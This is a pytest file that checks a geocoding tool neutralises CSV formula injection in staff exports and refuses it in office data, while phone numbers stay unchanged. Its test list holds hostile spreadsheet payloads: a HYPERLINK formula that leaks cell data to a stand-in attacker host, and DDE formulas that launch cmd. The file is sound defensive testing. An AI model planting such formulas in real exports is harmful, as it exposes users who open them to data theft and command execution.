"""CSV formula injection (CWE-1236): staff exports show formulas as text, the office data
refuses them, and phone numbers such as "+49 9561 514-0" pass unchanged.

The payloads are the issue's: a spreadsheet would open a link, run a program through DDE or
compute a sum from these cells.
"""

from __future__ import annotations

import csv
import shutil

import pytest

from locator.cli import main
from locator.errors import DataError
from locator.formulas import spreadsheet_cell, starts_formula
from locator.offices import read_offices

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
HARMLESS = ["+49 9561 514-0", "+49 (0)9561/514-0", "-12.5", "0951 85-0", "Coburg",
            "Lauterer Str. 60", ""]


@pytest.mark.parametrize("payload", PAYLOADS + ["\t=1+1", "\r=1+1", "=1+1", "-", "@"])
def test_formula_cells_become_text(payload):
    assert starts_formula(payload)
    assert spreadsheet_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_phones_and_text_stay_as_they_are(value):
    assert not starts_formula(value)
    assert spreadsheet_cell(value) == value


@pytest.fixture
def staff_sheet(tmp_path):
    """A staff list whose name, street, city and phone cells carry the payloads."""
    path = tmp_path / "stellen.csv"
    rows = [["Name", "Straße", "PLZ", "Ort", "Telefon", "Jugendamt"]]
    for n, payload in enumerate(PAYLOADS):
        rows.append([payload, f"Bahnhofstr. {n + 1}", "96450", "Coburg", "+49 9561 514-0",
                     "Landkreis Coburg"])
    rows.append(["KoKi Außenstelle Rödental", "=HYPERLINK(\"x\")", "96472", "Rödental",
                 "+49 9563 1234", "Landkreis Coburg"])
    rows.append(["KoKi Außenstelle Neustadt", "Georg-Langbein-Str. 1", "96465",
                 "@Neustadt b. Coburg", "", "Landkreis Coburg"])
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def test_geocode_output_holds_no_formula(staff_sheet, tmp_path):
    out = tmp_path / "out.csv"
    assert main(["geocode", str(staff_sheet), "-o", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fh:
        records = list(csv.DictReader(fh))
    assert len(records) == len(PAYLOADS) + 2
    cells = [cell for record in records for cell in record.values()]
    assert not [cell for cell in cells if starts_formula(cell)]
    names = [record["Name"] for record in records[:len(PAYLOADS)]]
    assert names == ["'" + p for p in PAYLOADS]  # kept, readable, inert
    assert records[-2]["Straße"] == "'=HYPERLINK(\"x\")"
    assert {record["Telefon"] for record in records} == {"+49 9561 514-0", "+49 9563 1234", ""}
    assert {record["lon"][:3] for record in records if record["status"] == "ok"} == {"10.", "11."}


def test_merge_refuses_formula_cells_and_names_row_and_field(staff_sheet, tmp_path, settings,
                                                             monkeypatch, capsys):
    offices = tmp_path / "offices.csv"
    shutil.copy(settings.offices_file, offices)
    monkeypatch.setenv("LOCATOR_OFFICES_FILE", str(offices))
    assert main(["geocode", str(staff_sheet), "-o", str(tmp_path / "o.csv"), "--merge"]) == 0
    stdout = capsys.readouterr().out
    assert f"0 added, 0 moved, 0 updated, 0 duplicate(s), {len(PAYLOADS) + 2} skipped" in stdout
    assert "line 2" in stdout and "name:" in stdout and "street:" in stdout
    assert "city:" in stdout and "a spreadsheet would run it as a formula" in stdout
    text = offices.read_text(encoding="utf-8")
    assert "HYPERLINK" not in text and "cmd|" not in text and "SUM(" not in text


def test_the_office_data_refuses_a_formula_on_load(tmp_path, settings, locator):
    bad = tmp_path / "offices.csv"
    with settings.offices_file.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    rows[3]["name"] = PAYLOADS[0]
    with bad.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    with pytest.raises(DataError) as refused:
        read_offices(bad, locator.districts)
    # The message quotes the cell and its first character, and says what to do.
    assert str(refused.value) == (
        f"{bad}, line 5, field 'name': {PAYLOADS[0]!r} starts with {PAYLOADS[0][0]!r}: a "
        "spreadsheet would run it as a formula (CSV injection); write it without")
